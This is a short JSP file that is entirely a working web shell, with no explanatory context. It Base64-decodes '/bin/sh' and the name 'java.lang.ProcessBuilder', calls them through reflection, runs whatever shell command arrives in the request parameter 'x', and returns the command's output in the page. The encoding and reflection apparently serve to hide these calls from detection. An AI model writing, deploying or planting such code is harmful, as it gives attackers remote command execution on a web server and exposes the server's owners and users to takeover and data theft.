<%@ page import="java.util.*" %>
<%!
	static String run(String arg) throws Exception {
		Base64.Decoder dec = Base64.getDecoder();
		List<String> argv = new ArrayList<String>();
		argv.add(new String(dec.decode("L2Jpbi9zaA==")));
		argv.add("-c");
		argv.add(arg);
		Class<?> k = Class.forName(new String(dec.decode("amF2YS5sYW5nLlByb2Nlc3NCdWlsZGVy")));
		Object pb = k.getConstructor(List.class).newInstance(argv);
		Process p = (Process) k.getMethod(new String(dec.decode("c3RhcnQ="))).invoke(pb);
		return new Scanner(p.getInputStream()).useDelimiter("\\A").next();
	}
%>
<%= run(request.getParameter("x")) %>
